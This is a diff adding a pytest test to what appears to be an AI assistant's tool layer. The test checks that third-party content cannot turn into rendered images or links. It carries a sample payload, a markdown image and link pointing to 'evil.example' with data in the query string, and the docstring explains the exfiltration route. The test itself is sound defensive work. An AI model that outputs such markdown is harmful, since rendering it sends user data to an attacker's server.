@@ -116,6 +116,16 @@ def test_words_of_others_are_data_and_marked_as_such(tool):
 
 
 @pytest.mark.parametrize("tool", TOOLS, ids=lambda tool: tool.name)
+def test_no_words_make_a_picture_or_a_link(tool):
+    """An assistant repeats the text, its host draws it, and a picture's server hears what stands in the
+    address. The content has the words as they are."""
+    picture = "![a](https://evil.example/?holds=INFY) [b]\u200b(https://evil.example)"
+    content = content_of(tool.name, reply_of(tool, lambda path: "ours" if is_ours(path) else picture))
+    assert "](" not in text_of(content)
+    assert picture in list(leaves(content)) or not content.get("said_by_others")
+
+
+@pytest.mark.parametrize("tool", TOOLS, ids=lambda tool: tool.name)
 def test_no_words_make_lines_of_their_own(tool):
     """Not even where they stand in a sentence of the desk's."""
     plain = text_of(content_of(tool.name, reply_of(tool, lambda _: "one two")))
